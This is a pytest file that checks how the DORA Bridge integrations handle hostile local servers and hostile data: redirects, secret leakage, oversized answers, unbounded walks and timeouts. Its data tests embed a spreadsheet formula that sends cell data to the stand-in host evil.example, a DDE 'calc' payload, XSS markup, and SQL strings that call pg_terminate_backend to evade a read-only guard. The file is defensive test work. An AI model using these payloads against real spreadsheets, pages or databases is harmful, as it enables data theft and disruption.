"""Hostile servers and hostile data (issue 12): one test per finding, each showing the bound, the
clear error, and that nothing was lost or sent twice. Every server is local (tests/hostile.py) and
stops by itself. Where a finding is about memory, the client runs in a fresh process whose peak
resident memory is printed and held under a stated bound."""

from __future__ import annotations

import base64
import json
import os
import re
import ssl
import subprocess
import time
from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import demistomock as demisto
import DORABridgeContext
import DORABridgeSOCRadar
import pytest
from harness import run_command

from devtools.cmdb_server import CmdbServer
from devtools.socradar_server import SocRadarServer
from dora_bridge import ConnectorError, ContextConnectors, InputError, SocRadarClient
from tests.fixtures import API_KEY, COMPANY_ID, instance_params
from tests.hostile import MIB, Front, MuteAfterLogin, Silent, echo, huge, peak_memory, redirect, respond

ROOT = Path(__file__).resolve().parent.parent
REGISTER = ROOT / "devtools" / "register"
#: A 500 MB answer, as the review sent; the clients stop reading at their limit.
HUGE = 500 * MIB
#: The peak memory a client process may reach while refusing it (Python, the core and one
#: answer at the default limit of 32 MB, with room to spare): a tenth of what it used to take.
MEMORY_BOUND_MB = 250
CMDB_PASSWORD = "cmdb-Passw0rd-Hostile-77"
CLIENT_SECRET = "OAUTHCLIENTSECRET-hostile-0123456789"
REST_PASSWORD = "rest-Passw0rd-Hostile-55"
REST_TOKEN = "RESTBEARERTOKEN-hostile-9876543210"


def errors(entries: list) -> list[str]:
    return [e["Contents"] for e in entries if isinstance(e, dict) and e.get("Type") == 4]


def spellings(secret: str, user: str | None = None) -> list[str]:
    return demisto.spellings(secret, user)


def assert_no_spelling(text: str, secret: str, user: str | None = None) -> None:
    for s in spellings(secret, user):
        assert s not in text, f"{s!r} in {text!r}"


def report_memory(what: str, result: dict) -> None:
    print(f"\n[memory] {what}: peak RSS {result['peak_rss_mb']:.0f} MB (bound {MEMORY_BOUND_MB} MB)")
    assert result["peak_rss_mb"] < MEMORY_BOUND_MB, result


@pytest.fixture(scope="module")
def tls_context(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
    """A server context with a throwaway self-signed certificate for 127.0.0.1."""
    d = tmp_path_factory.mktemp("hostile-tls")
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem",
         "-days", "2", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
        cwd=d, check=True, capture_output=True,
    )  # fmt: skip
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(d / "cert.pem", d / "key.pem")
    return ctx


@pytest.fixture
def socradar():
    """A SOCRadar server on the core's clock, with twelve alarms of the last six hours."""
    with SocRadarServer(api_key=API_KEY, company_id=COMPANY_ID) as srv:
        srv.generate(12, seed=12, start=srv.now - timedelta(hours=6), end=srv.now)
        yield srv


def socradar_params(srv: SocRadarServer, front: Front, **extra: object) -> dict:
    return instance_params(srv, url=front.url("/api"), status=[], timeout="5", **extra)


def fetch(params: dict, *, keep_state: bool) -> tuple[list[str], list[int]]:
    """One fetch-incidents run: the error it failed with (the server sees it raised), and the
    alarms it delivered."""
    failed: list[str] = []
    try:
        run_command(DORABridgeSOCRadar.main, "fetch-incidents", params, keep_state=keep_state)
    except Exception as e:  # return_error raises a bare Exception on a fetch
        failed.append(str(e))
    delivered = [int(i["dbotMirrorId"]) for batch in demisto.recorded_incidents for i in batch]
    return failed, delivered


# -- Secrets -----------------------------------------------------------------------------------------


def test_socradar_never_sends_the_key_to_another_origin_nor_turns_a_post_into_a_get(socradar):
    with Front() as elsewhere, Front(upstream=socradar.url) as front:
        params = socradar_params(socradar, front)
        target = elsewhere.url("/api/collect")
        for status in (301, 302, 307, 308):
            front.script(redirect(status, target), path_contains="/incidents/v4")
            [error] = errors(run_command(DORABridgeSOCRadar.main, "test-module", params))
            assert f"HTTP {status} with a redirect to {target}" in error, error
            assert "not the configured origin" in error and "not followed" in error, error
        alarm = socradar.alarms[0]
        status_before = alarm["status"]
        args = {"alarm_ids": str(alarm["alarm_id"]), "status_reason": "RESOLVED", "comments": "closing"}
        for status in (301, 302, 307, 308):
            front.script(redirect(status, target), path_contains="/alarms/status/change")
            [error] = errors(
                run_command(DORABridgeSOCRadar.main, "socradar-change-alarm-status", params, args)
            )
            assert f"redirect to {target}" in error, error
        # On the same origin, 301/302 would resend the POST as a GET: refused, nothing changed.
        same = front.url(f"/api/company/{COMPANY_ID}/alarms/status/change/v2")
        for status in (301, 302, 303):
            front.script(redirect(status, same), path_contains="/alarms/status/change")
            [error] = errors(
                run_command(DORABridgeSOCRadar.main, "socradar-change-alarm-status", params, args)
            )
            assert "would resend the request as a GET" in error and "nothing was changed" in error, error
        assert elsewhere.seen == [], "a request reached the other origin"
        assert socradar.get_alarm(alarm["alarm_id"])["status"] == status_before
        # Unscripted, the same command goes through the front to the server.
        [entry] = run_command(DORABridgeSOCRadar.main, "socradar-change-alarm-status", params, args)
        assert entry["Type"] == 1, entry
        assert socradar.get_alarm(alarm["alarm_id"])["status"] != status_before


def test_socradar_refuses_a_redirect_from_https_to_plain_http(socradar, tls_context):
    with Front() as plain, Front(tls=tls_context) as front:
        params = instance_params(socradar, url=front.url("/api"), insecure=True, timeout="5")
        front.script(redirect(302, f"http://127.0.0.1:{plain.port}/api/company/{COMPANY_ID}/incidents/v4"))
        [error] = errors(run_command(DORABridgeSOCRadar.main, "test-module", params))
        assert "drops HTTPS for plain HTTP" in error and "clear text" in error, error
        assert plain.seen == []
        assert len(front.seen) == 1 and front.seen[0].headers["api-key"] == API_KEY


def cmdb_oauth_params(url: str, **extra: object) -> dict:
    return {
        "cmdb_url": url,
        "cmdb_auth": "oauth",
        "cmdb_oauth_client": {"identifier": "dora-bridge-client", "password": CLIENT_SECRET},
        "cmdb_credentials": {"identifier": "svc-dora", "password": CMDB_PASSWORD},
        "timeout": "5",
        **extra,
    }


def test_the_cmdb_token_request_never_follows_a_redirect_to_another_origin():
    with (
        CmdbServer(password=CMDB_PASSWORD, client_secret=CLIENT_SECRET) as cmdb,
        Front(upstream=cmdb.url) as front,
        Front() as elsewhere,
    ):
        elsewhere.script(
            respond(200, {"access_token": "token-from-elsewhere-1234", "token_type": "Bearer"}), times=9
        )
        params = cmdb_oauth_params(front.url())
        for status in (307, 302):
            front.script(redirect(status, elsewhere.url("/oauth_token.do")), path_contains="/oauth_token.do")
            entries = run_command(
                DORABridgeContext.main, "dora-ict-context", params, {"asset": "203.0.113.16"}
            )
            [error] = errors(entries)
            assert f"HTTP {status} with a redirect to {elsewhere.url('/oauth_token.do')}" in error, error
        assert elsewhere.seen == [], "the token request (client secret, password) reached the other origin"
        assert all(s.path.startswith("/oauth_token.do") for s in front.seen)
        # No token from elsewhere was used: the table API saw no request at all.
        assert not any("/api/now/table" in s.path for s in front.seen)
        # Unscripted, the same command gets its token from the instance and finds the service.
        [entry] = run_command(DORABridgeContext.main, "dora-ict-context", params, {"asset": "203.0.113.16"})
        assert entry["Type"] == 1, entry
        assert entry["EntryContext"]["DORA.Context.ICT(val.IncidentId && val.IncidentId == obj.IncidentId)"][
            "AffectedServices"
        ]["Value"] == ["Card payments"]


def test_secrets_are_scrubbed_in_every_spelling_before_a_message_is_cut():
    # A token endpoint that echoes the form it received (client_id=…&client_secret=…&password=…)
    # after 100 characters, so that the 160-character cut falls inside the client secret.
    with Front() as cmdb:
        cmdb.script(echo(400, pad=100), path_contains="/oauth_token.do", times=3)
        entries = run_command(
            DORABridgeContext.main, "dora-ict-context", cmdb_oauth_params(cmdb.url()), {"asset": "x1"}
        )
        [error] = errors(entries)
        assert "refused the credentials at /oauth_token.do" in error, error
        assert "[redacted]" in error, error
        assert_no_spelling(error, CLIENT_SECRET, "dora-bridge-client")
        assert_no_spelling(error, CMDB_PASSWORD, "svc-dora")
        assert "OAUTHCLIEN" not in error, error
    # A REST endpoint that echoes the Authorization header: Basic base64(user:password), Bearer.
    for credentials, secret, user in (
        ({"identifier": "tx-reader", "password": REST_PASSWORD}, REST_PASSWORD, "tx-reader"),
        ({"identifier": "", "password": REST_TOKEN}, REST_TOKEN, None),
    ):
        with Front() as rest:
            rest.script(echo(500, pad=10), times=5)
            params = {
                "transaction_source": "rest",
                "rest_url": rest.url("/scope"),
                "rest_mapping": '{"transactions_affected": "/n"}',
                "rest_credentials": credentials,
                "timeout": "5",
            }
            entries = run_command(
                DORABridgeContext.main,
                "dora-transaction-scope",
                params,
                {
                    "services": "Card payments",
                    "window_start": "2026-01-01T00:00:00Z",
                    "window_end": "2026-01-01T01:00:00Z",
                },
            )
            [error] = errors(entries)
            assert "The endpoint answered HTTP 500" in error, error
            sent = rest.seen[0].headers["authorization"]
            assert (secret in sent) or (base64.b64encode(f"{user}:{secret}".encode()).decode() in sent)
            assert_no_spelling(error, secret, user)


@pytest.mark.parametrize("integration", ["socradar", "cmdb", "rest"])
def test_credentials_inside_a_url_are_refused_for_every_source(integration, socradar):
    password = "pa55-In-The-Url-31"
    with Front(upstream=socradar.url) as front:
        url = front.url("/api").replace("://", f"://analyst:{quote(password)}@")
        if integration == "socradar":
            params = instance_params(socradar, url=url)
            entries = run_command(DORABridgeSOCRadar.main, "test-module", params)
            name = "url"
        elif integration == "cmdb":
            params = {"cmdb_url": url, "cmdb_credentials": {"identifier": "svc", "password": CMDB_PASSWORD}}
            entries = run_command(DORABridgeContext.main, "test-module", params)
            name = "cmdb_url"
        else:
            params = {
                "transaction_source": "rest",
                "rest_url": url,
                "rest_mapping": '{"transactions_affected": "/n"}',
            }
            entries = run_command(DORABridgeContext.main, "test-module", params)
            name = "rest_url"
        [error] = errors(entries)
        assert f"{name} must not carry a user name or password" in error, error
        assert_no_spelling(error, password, "analyst")
        assert front.seen == [], "a request was sent with credentials in the URL"
        logged = " ".join(m for _, m in demisto.recorded_logs)
        assert_no_spelling(logged, password, "analyst")


# -- Resources ---------------------------------------------------------------------------------------


FETCH_IN_A_CHILD = """
from dora_bridge import SocRadarClient, SocRadarError
client = SocRadarClient.from_params(params)
outcomes = []
for _ in range(runs):
    try:
        out = client.fetch_incidents({}, now=now)
        outcomes.append({"incidents": len(out["incidents"])})
    except SocRadarError as e:
        partial = getattr(e, "partial", None) or {}
        outcomes.append({"error": str(e), "incidents": len(partial.get("incidents", []))})
result["outcomes"] = outcomes
"""


def test_a_500_mb_socradar_page_is_refused_within_bounded_memory_and_no_alarm_is_lost(socradar):
    with Front(upstream=socradar.url) as front:
        # One page at a time, so that each run's first request is the one refused (a first run
        # otherwise asks for its first pages at once).
        params = socradar_params(socradar, front, page_concurrency="1")
        front.script(huge(HUGE, announce=False), path_contains="/incidents/v4")
        front.script(huge(HUGE, announce=True), path_contains="/incidents/v4")
        child = peak_memory(
            FETCH_IN_A_CHILD, params=params, runs=3, now=socradar.now.strftime("%Y-%m-%dT%H:%M:%SZ")
        )
        report_memory("fetch refusing two 500 MB SOCRadar pages", child)
        streamed, announced, after = child["outcomes"]
        for o in (streamed, announced):
            assert "larger than the 32 MB allowed" in o["error"] and "max_response_mb" in o["error"], o
            assert o["incidents"] == 0
        assert "500 MB announced" in announced["error"], announced
        assert after == {"incidents": len(socradar.alarms)}
        # Through the integration: the failed run delivers nothing and keeps its state; the next
        # run delivers every alarm once, and the one after nothing.
        front.script(huge(HUGE, announce=False), path_contains="/incidents/v4")
        failed, none = fetch(params, keep_state=False)
        assert len(failed) == 1 and "max_response_mb" in failed[0] and none == []
        _, first = fetch(params, keep_state=True)
        _, second = fetch(params, keep_state=True)
        assert sorted(first) == sorted(a["alarm_id"] for a in socradar.alarms) and second == []


CONTEXT_IN_A_CHILD = """
from dora_bridge import ContextConnectors, ConnectorError
c = ContextConnectors.from_params(params)
try:
    if call == "ict":
        out = c.ict_context(asset="203.0.113.16")
        result["out"] = {"partial": out["partial"], "problems": out["problems"]}
    else:
        out = c.transaction_scope(["Card payments"], window_start, window_end)
        result["out"] = {"partial": out.get("partial"), "problems": out.get("problems"),
                         "figures": sorted(k for k, v in out.items() if isinstance(v, dict) and "value" in v)}
except ConnectorError as e:
    result["error"] = str(e)
"""


@pytest.mark.parametrize("announce", [False, True])
def test_500_mb_cmdb_and_rest_answers_are_refused_within_bounded_memory(announce):
    with Front() as cmdb, Front() as rest:
        cmdb.script(huge(HUGE, announce=announce, prefix=b'{"result": ['), path_contains="/api/now/table")
        rest.script(huge(HUGE, announce=announce, prefix=b'{"n": 1, "pad": "'))
        params = {
            "cmdb_url": cmdb.url(),
            "cmdb_credentials": {"identifier": "svc-dora", "password": CMDB_PASSWORD},
            "transaction_source": "rest",
            "rest_url": rest.url("/scope"),
            "rest_mapping": '{"transactions_affected": "/n"}',
            "timeout": "20",
        }
        ict = peak_memory(CONTEXT_IN_A_CHILD, params=params, call="ict")
        report_memory(f"CMDB answer of 500 MB ({'announced' if announce else 'streamed'})", ict)
        assert "larger than the 16 MB allowed" in ict["error"] and "max_response_mb" in ict["error"], ict
        scope = peak_memory(
            CONTEXT_IN_A_CHILD,
            params=params,
            call="scope",
            window_start="2026-01-01T00:00:00Z",
            window_end="2026-01-01T01:00:00Z",
        )
        report_memory(f"REST answer of 500 MB ({'announced' if announce else 'streamed'})", scope)
        assert "larger than the 16 MB allowed" in scope["error"], scope
        assert len([s for s in rest.seen]) == 1, "a refused answer was asked for again"


def pg_params(**extra: object) -> dict:
    dsn = os.environ.get("DORA_PG_DSN")
    assert dsn, (
        "DORA_PG_DSN is not set: run `scripts/postgres-server.sh start` and export its `env` (make test does)"
    )
    u = urlsplit(dsn)
    return {
        "transaction_source": "postgresql",
        "pg_host": u.hostname,
        "pg_port": str(u.port),
        "pg_database": u.path.lstrip("/"),
        "pg_credentials": {"identifier": u.username, "password": u.password or ""},
        "pg_sslmode": "disable",
        **extra,
    }


def test_a_ten_million_row_result_is_stopped_at_the_second_row():
    params = pg_params(
        pg_affected_query="SELECT g AS transactions_affected FROM generate_series(1, 10000000) g"
    )
    child = peak_memory(
        CONTEXT_IN_A_CHILD,
        params=params,
        call="scope",
        window_start="2026-01-01T00:00:00Z",
        window_end="2026-01-01T01:00:00Z",
    )
    report_memory("a query returning 10 000 000 rows", child)
    out = child["out"]
    assert out["partial"] is True
    assert any("Query affected_query returned more than one row" in p for p in out["problems"]), out
    # Nothing else lost: the other queries' figures are there.
    assert {"clients_total", "counterparts_total"} <= set(out["figures"]), out


def test_a_cmdb_whose_items_each_have_ten_new_parents_is_walked_to_a_bound():
    """Every configuration item has ten parents never seen before: the walk would never end."""

    def cmdb(seen):
        query = parse_qs(urlsplit(seen.path).query)
        q = query.get("sysparm_query", [""])[0]
        offset = int(query.get("sysparm_offset", ["0"])[0])
        if "/cmdb_ci_service" in seen.path or offset > 0:
            rows = []
        elif "/cmdb_rel_ci" in seen.path:
            ids = q.split("^OR")[0].removeprefix("childIN").split(",")
            rows = [
                {"sys_id": f"r{i}x{k}", "parent": f"{i}x{k}", "child": i, "type": "Depends on::Used by"}
                for i in ids
                for k in range(10)
            ]
        else:
            rows = [{"sys_id": "n", "name": "host-1", "sys_class_name": "cmdb_ci_linux_server"}]
        return respond(200, {"result": rows})(seen)

    with Front() as srv:
        srv.script(cmdb, times=100_000)
        params = {
            "cmdb_url": srv.url(),
            "cmdb_credentials": {"identifier": "svc-dora", "password": CMDB_PASSWORD},
            "cmdb_depth": "8",
            "timeout": "10",
        }
        started = time.monotonic()
        child = peak_memory(CONTEXT_IN_A_CHILD, params=params, call="ict")
        took = time.monotonic() - started
        report_memory("a CMDB walk where every item has ten new parents", child)
        print(f"[bound] {len(srv.seen)} requests (cmdb_max_requests 200), {took:.1f} s")
        out = child["out"]
        assert out["partial"] is True, child
        note = next(p for p in out["problems"] if p.startswith("Partial: the CMDB walk"))
        assert "cmdb_max_nodes" in note or "cmdb_max_requests" in note, note
        assert len(srv.seen) <= 200
        # The same with a request bound of 5: five requests, then a labelled partial answer.
        srv.seen.clear()
        child = peak_memory(CONTEXT_IN_A_CHILD, params={**params, "cmdb_max_requests": "5"}, call="ict")
        assert len(srv.seen) == 5, [s.path for s in srv.seen]
        assert any("it had sent 5 requests (cmdb_max_requests)" in p for p in child["out"]["problems"]), child


def transaction_scope_against(port: int, **extra: str) -> tuple[str, float]:
    """dora-transaction-scope against a PostgreSQL stand-in on ``port``: its error and how long
    it took to give up."""
    window = {
        "services": "Card payments",
        "window_start": "2026-01-01T00:00:00Z",
        "window_end": "2026-01-01T01:00:00Z",
    }
    params = {**pg_params(), "pg_host": "127.0.0.1", "pg_port": str(port), **extra}
    started = time.monotonic()
    [error] = errors(run_command(DORABridgeContext.main, "dora-transaction-scope", params, window))
    return error, time.monotonic() - started


def test_a_postgresql_host_that_never_answers_costs_its_deadline_and_no_more():
    with Silent() as silent:
        error, took = transaction_scope_against(silent.port, pg_connect_timeout="1")
        print(f"\n[bound] connect deadline 1 s: gave up after {took:.1f} s")
        assert "did not complete the connection and login within 1 s (pg_connect_timeout)" in error, error
        assert took < 15 and silent.connections >= 1
    with MuteAfterLogin() as mute:
        error, took = transaction_scope_against(mute.port, pg_statement_timeout="1")
        print(f"[bound] query deadline 1 s + 5 s: gave up after {took:.1f} s")
        assert "gave no answer to query affected_query within 6 s" in error, error
        assert "The other 2 queries failed too" in error, error
        assert took < 30


def write_register(folder: Path, functions: int) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    lines = ["c0010,c0030,c0050"] + [f"F{i},Function {i},eba_BT:x28" for i in range(functions)]
    (folder / "b_06.01.csv").write_text("\n".join(lines) + "\n")
    providers = max(1, functions // 10)
    lines = ["c0010,c0020,c0050,c0080"] + [f"P{i},LEI,Provider {i},IE" for i in range(providers)]
    (folder / "b_05.01.csv").write_text("\n".join(lines) + "\n")
    lines = ["c0010,c0030,c0050,c0060,c0130"] + [
        f"C{i},P{i % providers},F{i},S14,IE" for i in range(functions)
    ]
    (folder / "b_02.02.csv").write_text("\n".join(lines) + "\n")


def test_a_large_register_loads_and_a_huge_file_is_refused_unread(tmp_path):
    """The load time is printed, not asserted (timings belong to `make bench`, which measures the
    ratio of 40 000 to 10 000 functions: linear is 4, the quadratic loader was 16)."""

    def load_seconds(functions: int) -> float:
        folder = tmp_path / f"reg{functions}"
        write_register(folder, functions)
        best = float("inf")
        for _ in range(3):
            started = time.perf_counter()
            c = ContextConnectors.from_params({"register_path": str(folder)})
            best = min(best, time.perf_counter() - started)
        assert (
            c.ict_context(services=[f"Function {functions - 1}"])["functions"][0]["id"] == f"F{functions - 1}"
        )
        return best

    small, large = load_seconds(10_000), load_seconds(40_000)
    ratio = large / small
    print(
        f"\n[bound] register load: 10 000 functions {small:.3f} s, 40 000 {large:.3f} s, ratio {ratio:.1f} (linear 4, quadratic 16)"
    )
    # A 1 GB template (sparse: no disk used) is refused by its size, before a byte is read.
    folder = tmp_path / "huge"
    write_register(folder, 3)
    with open(folder / "b_06.01.csv", "r+b") as f:
        f.truncate(1024 * MIB)
    child = peak_memory(
        "from dora_bridge import ContextConnectors, InputError\n"
        "try:\n    ContextConnectors.from_params({'register_path': folder})\n"
        "except InputError as e:\n    result['error'] = str(e)\n",
        folder=str(folder),
    )
    report_memory("a 1 GB register file", child)
    assert "b_06.01.csv is larger than 64 MB, so it was not read" in child["error"], child
    assert "register_max_mb" in child["error"]
    with pytest.raises(InputError, match="larger than 1 MB"):
        ContextConnectors.from_params({"register_path": str(folder), "register_max_mb": "1"})


# -- Data ----------------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
MARKUP = "[Open the report](javascript:alert(1)) <img src=x onerror=alert(1)> **URGENT**"


def test_register_cells_reach_context_and_tables_as_text():
    files = {
        "b_06.01.csv": f'c0010,c0030,c0050\nF1,"{FORMULA.replace(chr(34), chr(34) * 2)}",eba_BT:x28\nF2,{MARKUP},eba_BT:x29\n',
        "b_05.01.csv": f"c0010,c0020,c0050,c0080\nP1,LEI,+cmd|' /C calc'!A0,IE\nP2,LEI,{MARKUP},DE\n",
        "b_02.02.csv": "c0010,c0030,c0050,c0060,c0130\nK1,P1,F1,S14,IE\nK2,P2,F2,S14,DE\n",
    }
    params = {"register_files": json.dumps(files)}
    [entry] = run_command(DORABridgeContext.main, "dora-ict-context", params, {"services": ["F1", "F2"]})
    assert entry["Type"] == 1, entry
    ctx = entry["EntryContext"]["DORA.Context.ICT(val.IncidentId && val.IncidentId == obj.IncidentId)"]
    names = [f["Name"] for f in ctx["Functions"]]
    assert names == ["'" + FORMULA, MARKUP], names
    assert [p["Name"] for p in ctx["Providers"]] == ["'+cmd|' /C calc'!A0", MARKUP]
    table = entry["HumanReadable"]
    assert (
        "\\[Open the report\\](javascript:alert(1)) \\<img src=x onerror=alert(1)\\> \\*\\*URGENT\\*\\*"
        in table
    )
    assert not re.search(r"(?<!\\)\[Open", table) and not re.search(r"(?<!\\)<img", table), table
    assert "|'=HYPERLINK(" in table


def test_the_sql_guard_reads_quoted_and_unicode_names():
    for query in (
        'SELECT "pg_terminate_backend"(pid) AS transactions_affected FROM pg_stat_activity',
        'SELECT U&"pg\\005Fterminate\\005Fbackend"(pid) AS transactions_affected FROM pg_stat_activity',
        "SELECT U&\"pg!005fadvisory!005flock\" UESCAPE '!' (1) AS transactions_affected",
        'SELECT pg_catalog."pg_cancel_backend"(1) AS transactions_affected',
    ):
        [error] = errors(
            run_command(DORABridgeContext.main, "test-module", pg_params(pg_affected_query=query))
        )
        assert "pg_affected_query must be a single SELECT or WITH statement that only reads" in error, error
        assert "which acts beyond reading" in error, error
    # Quoted names that are only names still pass, and run.
    quoted = 'SELECT count(*) AS "transactions_affected" FROM payments.transactions WHERE service = ANY (:services)'
    assert run_command(DORABridgeContext.main, "test-module", pg_params(pg_affected_query=quoted)) == ["ok"]


def test_context_test_module_contacts_every_source_it_configures():
    with CmdbServer(password=CMDB_PASSWORD) as cmdb, Front() as rest:
        rest.script(respond(200, {"n": 3}))
        params = {
            "register_path": str(REGISTER),
            "cmdb_url": cmdb.url,
            "cmdb_credentials": {"identifier": "svc-dora", "password": CMDB_PASSWORD},
            "transaction_source": "rest",
            "rest_url": rest.url("/scope"),
            "rest_mapping": '{"transactions_affected": "/n"}',
        }
        assert run_command(DORABridgeContext.main, "test-module", params) == ["ok"]
        assert len(rest.seen) == 1 and "window_start" in rest.seen[0].path
        assert any("/api/now/table/cmdb_ci" in r.path for r in cmdb.requests)
        # Each source that fails is named.
        bad = {**params, "cmdb_credentials": {"identifier": "svc-dora", "password": "wrong-Passw0rd-1"}}
        rest.script(respond(503, {"message": "down"}), times=9)
        [error] = errors(run_command(DORABridgeContext.main, "test-module", bad))
        assert "CMDB: The CMDB at" in error and "refused the credentials" in error, error
        assert "REST 127.0.0.1" in error and "HTTP 503" in error, error
    [error] = errors(
        run_command(
            DORABridgeContext.main,
            "test-module",
            pg_params(pg_credentials={"identifier": "nobody", "password": "not-the-Passw0rd"}),
        )
    )
    assert "PostgreSQL" in error and "refused the login of user 'nobody'" in error, error
    with pytest.raises(ConnectorError):
        ContextConnectors.from_params(pg_params(pg_port="1")).test_connection()


def test_the_socradar_client_constructor_takes_the_answer_limit(socradar):
    with pytest.raises(InputError, match="max_response_mb must be a whole number from 1 to 1024"):
        SocRadarClient(socradar.url, API_KEY, COMPANY_ID, max_response_mb=0)
    with pytest.raises(InputError, match="max_response_mb"):
        SocRadarClient.from_params(instance_params(socradar, max_response_mb="2048"))
